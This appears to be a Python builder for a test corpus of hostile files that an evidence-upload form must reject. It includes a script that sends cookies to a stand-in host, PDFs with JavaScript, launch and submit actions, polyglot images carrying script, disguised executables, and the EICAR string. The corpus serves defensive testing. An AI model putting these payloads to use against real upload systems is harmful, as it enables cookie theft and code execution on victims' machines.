"""Builds the hostile evidence corpus: files an attacker would upload as evidence, each of which the
upload forms must refuse. No real malware: the active PDFs only call app.alert, the "programs" are
a few header bytes, and the virus is EICAR's test string.

    python -m tests.hostile_files.build     writes corpus/<id>.bin and corpus/manifest.json

`CASES` is the corpus: an id, the name the file is uploaded under, its bytes, and a part of the
message it must be refused with (which rule catches it). tests/declarations/test_hostile_files.py
uploads every one and checks that the committed files are what this script builds.
"""

import json
import struct
import zipfile
import zlib
from io import BytesIO

from PIL import Image

from tests.hostile_files import CORPUS

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

# Parts of the messages (declarations/validators.py, declarations/evidence_checks.py).
TYPE = "Only PDF, JPEG and PNG files are accepted"
EXTENSION = "so its name must end in"
ACTIVE = "This PDF contains active content"
TRAILING = "has data after its end"
MARKUP = "contains web page or script code"
VIRUS = "virus test signature"
DAMAGED_PDF = "This PDF is incomplete or damaged"


# --- Builders --------------------------------------------------------------------------------------


def pdf(catalog_extra=b"", page_extra=b"", extra_objects=(), body=b"Evidence", comment=b"", after=b""):
    """A one-page PDF with a cross-reference table. `extra_objects` are numbered from 6 on."""
    stream = b"BT /F1 18 Tf 72 770 Td (" + body + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra_objects,
    ]
    out, offsets = b"%PDF-1.4\n" + comment, []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out + after


def pdf_with_object_stream(hidden, page_extra=b"/Annots [7 0 R]"):
    """A PDF 1.5 whose object 6, `hidden`, sits in a compressed object stream (object 8) listed by
    a cross-reference stream (object 9): its bytes never appear in the file as written."""
    stream = b"BT /F1 18 Tf 72 770 Td (Evidence) Tj ET"
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
        4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        7: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 6 0 R >>",
    }
    header = b"6 0 "
    packed = zlib.compress(header + hidden)
    objects[8] = b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(header),
        len(packed),
        packed,
    )
    out, offsets = b"%PDF-1.5\n", {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    offsets[9] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, 10):
        if number == 6:
            rows.append(struct.pack(">BIH", 2, 8, 0))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    table = b"".join(rows)
    out += b"9 0 obj\n<< /Type /XRef /Size 10 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(table),
        table,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[9]
    return out


def pdf_with_orphan_object(orphan):
    """A PDF with an earlier revision's object that the cross-reference table no longer lists (a
    reader that rebuilds a damaged table finds it)."""
    base = pdf()
    head, tail = base.split(b"xref\n", 1)
    junk = b"99 0 obj\n" + orphan + b"\nendobj\n"
    start = len(head)
    tail = tail.replace(b"startxref\n%d\n" % start, b"startxref\n%d\n" % (start + len(junk)))
    return head + junk + b"xref\n" + tail


def image(kind, size=(48, 32)):
    buffer = BytesIO()
    Image.new("RGB", size, (40, 90, 160)).save(buffer, kind)
    return buffer.getvalue()


def png_with_text_chunk(keyword, text):
    png = image("PNG")
    data = keyword + b"\x00" + text
    chunk = struct.pack(">I", len(data)) + b"tEXt" + data + struct.pack(">I", zlib.crc32(b"tEXt" + data))
    return png[:33] + chunk + png[33:]


def jpeg_with_comment(comment):
    jpeg = image("JPEG")
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return jpeg[:2] + segment + jpeg[2:]


def zip_archive():
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("invoice.pdf.exe", b"MZ\x90\x00" + b"\x00" * 60)
    return buffer.getvalue()


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00" + b"PE\x00\x00"
HTML = b"<!DOCTYPE html><html><body><script>document.location='https://example.invalid/'+document.cookie</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"


# --- The corpus ------------------------------------------------------------------------------------

CASES = [
    # Active PDFs
    (
        "pdf-openaction-javascript",
        "report.pdf",
        pdf(catalog_extra=b"/OpenAction 6 0 R", extra_objects=[JS_ACTION]),
        ACTIVE,
    ),
    (
        "pdf-document-javascript",
        "report.pdf",
        pdf(catalog_extra=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", extra_objects=[JS_ACTION]),
        ACTIVE,
    ),
    (
        "pdf-escaped-javascript-name",
        "report.pdf",
        pdf(catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        ACTIVE,
    ),
    ("pdf-js-in-object-stream", "report.pdf", pdf_with_object_stream(JS_ACTION), ACTIVE),
    (
        "pdf-escaped-js-in-object-stream",
        "report.pdf",
        pdf_with_object_stream(b"<< /S /J#61va#53cript /#4AS (app.alert\\(1\\)) >>"),
        ACTIVE,
    ),
    (
        "pdf-launch-in-object-stream",
        "report.pdf",
        pdf_with_object_stream(b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>"),
        ACTIVE,
    ),
    ("pdf-launch-action", "report.pdf", pdf(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), ACTIVE),
    (
        "pdf-openaction-uri",
        "report.pdf",
        pdf(catalog_extra=b"/OpenAction << /S /URI /URI (https://example.invalid/) >>"),
        ACTIVE,
    ),
    (
        "pdf-page-additional-actions",
        "report.pdf",
        pdf(page_extra=b"/AA << /O << /S /URI /URI (https://example.invalid/) >> >>"),
        ACTIVE,
    ),
    (
        "pdf-escaped-additional-actions",
        "report.pdf",
        pdf(page_extra=b"/#41A << /O 6 0 R >>", extra_objects=[b"<< /S /GoTo /D [3 0 R /Fit] >>"]),
        ACTIVE,
    ),
    (
        "pdf-embedded-file",
        "report.pdf",
        pdf(
            catalog_extra=b"/Names << /EmbeddedFiles << /Names [(a.exe) "
            b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >> >>",
            extra_objects=[b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream"],
        ),
        ACTIVE,
    ),
    (
        "pdf-file-attachment-annotation",
        "report.pdf",
        pdf(page_extra=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (a.exe) >>]"),
        ACTIVE,
    ),
    (
        "pdf-xfa-form",
        "report.pdf",
        pdf(
            catalog_extra=b"/AcroForm << /Fields [] /XFA 6 0 R >>",
            extra_objects=[b"<< /Length 0 >>\nstream\n\nendstream"],
        ),
        ACTIVE,
    ),
    (
        "pdf-rich-media",
        "report.pdf",
        pdf(page_extra=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>]"),
        ACTIVE,
    ),
    (
        "pdf-submit-form",
        "report.pdf",
        pdf(
            page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
            b"/A << /S /SubmitForm /F (https://example.invalid/) >> >>]"
        ),
        ACTIVE,
    ),
    (
        "pdf-import-data",
        "report.pdf",
        pdf(
            page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
            b"/A << /S /ImportData /F (x.fdf) >> >>]"
        ),
        ACTIVE,
    ),
    ("pdf-orphan-javascript-object", "report.pdf", pdf_with_orphan_object(JS_ACTION), ACTIVE),
    # Polyglots, trailing data, a test virus
    ("pdf-script-polyglot", "report.pdf", pdf(comment=b"%<script>alert(document.domain)</script>\n"), MARKUP),
    ("pdf-html-polyglot", "report.pdf", pdf(comment=b"%" + HTML + b"\n"), MARKUP),
    ("pdf-svg-polyglot", "report.pdf", pdf(comment=b"%<svg onload=alert(1)>\n"), MARKUP),
    ("pdf-data-after-eof", "report.pdf", pdf(after=b"MZ\x90\x00 a program after the end"), TRAILING),
    ("pdf-html-after-eof", "report.pdf", pdf(after=HTML), MARKUP),
    ("pdf-without-eof", "report.pdf", pdf()[:-6], DAMAGED_PDF),
    ("pdf-with-eicar", "report.pdf", pdf(comment=b"%" + EICAR + b"\n"), VIRUS),
    ("png-html-after-iend", "scan.png", image("PNG") + HTML, MARKUP),
    ("png-zip-after-iend", "scan.png", image("PNG") + zip_archive(), TRAILING),
    ("png-script-in-text-chunk", "scan.png", png_with_text_chunk(b"Comment", b"<script>alert(1)</script>"), MARKUP),
    ("png-with-eicar", "scan.png", png_with_text_chunk(b"Comment", EICAR), VIRUS),
    ("jpeg-data-after-eoi", "photo.jpg", image("JPEG") + b"\x00\x01 appended data", TRAILING),
    ("jpeg-html-after-eoi", "photo.jpg", image("JPEG") + HTML, MARKUP),
    ("jpeg-script-in-comment", "photo.jpg", jpeg_with_comment(b"<script>alert(1)</script>"), MARKUP),
    # Other types, whatever their name
    ("html-page", "evidence.html", HTML, TYPE),
    ("html-named-pdf", "evidence.pdf", HTML, TYPE),
    ("svg-image", "evidence.svg", SVG, TYPE),
    ("svg-named-png", "scan.png", SVG, TYPE),
    ("exe-program", "evidence.exe", EXE, TYPE),
    ("exe-named-pdf", "evidence.pdf", EXE, TYPE),
    ("zip-named-pdf", "evidence.pdf", zip_archive(), TYPE),
    ("gif-named-png", "scan.png", image("GIF"), TYPE),
    ("eicar-named-pdf", "evidence.pdf", EICAR, TYPE),
    # Good content under a wrong name
    ("pdf-named-html", "evidence.html", pdf(), EXTENSION),
    ("pdf-named-svg", "evidence.svg", pdf(), EXTENSION),
    ("pdf-named-exe", "evidence.exe", pdf(), EXTENSION),
    ("pdf-nul-then-html", "x.pdf\x00.html", pdf(), EXTENSION),
    ("pdf-double-extension", "x.pdf.html", pdf(), EXTENSION),
    ("png-named-pdf", "scan.pdf", image("PNG"), EXTENSION),
    ("jpeg-without-extension", "scan", image("JPEG"), EXTENSION),
]


def build(folder=CORPUS):
    folder.mkdir(parents=True, exist_ok=True)
    manifest = {}
    for case_id, name, content, message in CASES:
        (folder / f"{case_id}.bin").write_bytes(content)
        manifest[case_id] = {"name": name, "refused_with": message}
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=1, ensure_ascii=True) + "\n")
    return manifest


if __name__ == "__main__":
    print(f"{len(build())} hostile files written to {CORPUS}")
